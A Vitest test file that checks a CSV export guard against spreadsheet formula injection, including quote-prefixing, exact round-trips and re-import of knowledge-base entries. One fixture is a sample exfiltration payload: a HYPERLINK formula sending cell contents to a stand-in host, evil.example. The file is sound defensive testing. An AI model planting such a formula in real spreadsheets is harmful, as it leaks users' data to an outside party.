import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { COLUMNS, exportCsv, guardCell, planImport, readCsv, unguardCell } from '../../src/admin/spreadsheet.js';
import { shippedKnowledge } from '../support/engine.js';

/** Cells a spreadsheet would run as a formula, and texts that look like the guard itself. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click for help")', '+359 2 939 47 74', '- first\n- second', '@SUM(A1:A9)', '\tindented', '\rreturn', '-1'];
const QUOTES = ["'", "''", "'=1+1", "''- twice", "'plain quote", "'", "it's fine", ''];

describe('the spreadsheet formula guard', () => {
  it('puts a quote in front of every cell Excel or LibreOffice would run as a formula, and nothing else', () => {
    for (const text of FORMULAS) expect(guardCell(text)).toBe(`'${text}`);
    for (const text of ['plain text', 'سلام', 'Здравей', "it's fine", "'plain quote", '1 = 1', '']) expect(guardCell(text)).toBe(text);
  });

  it('takes away exactly the quote it added: every text survives the guard unchanged', () => {
    for (const text of [...FORMULAS, ...QUOTES, 'plain', '- a Markdown list\n- of two']) expect(unguardCell(guardCell(text))).toBe(text);
    // A translator's own leading quote is text, not a guard.
    expect(unguardCell("'plain quote")).toBe("'plain quote");
  });

  it('writes no cell of the CSV that starts like a formula, and reading the CSV back changes no entry', async () => {
    const knowledge = await shippedKnowledge();
    const edited = [...knowledge.entries.values()].map((entry) => structuredClone(entry));
    const cost = edited.find((e) => e.id === 'avrr-cost')!;
    cost.languages.en.answer = '- first item\n- second item\n';
    cost.languages.en.variants = [FORMULAS[0]!, ...cost.languages.en.variants];
    cost.languages.bg.answer = '+ плюс в началото\n';
    cost.languages.fa.answer = "'=1+1 is not a formula either\n";
    const csv = exportCsv(edited);
    const cells = (parse(csv, { bom: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${cost.languages.en.variants.join('\n')}`);
    expect(cells).toContain("'- first item\n- second item");
    expect(cells).toContain("''=1+1 is not a formula either");

    const plan = planImport(readCsv(csv), new Map(edited.map((e) => [e.id, e])));
    expect(plan.bad).toEqual([]);
    expect(plan.changes).toEqual([]);
    expect(plan.rows).toBe(cells.length / COLUMNS.length - 1);
  });
});
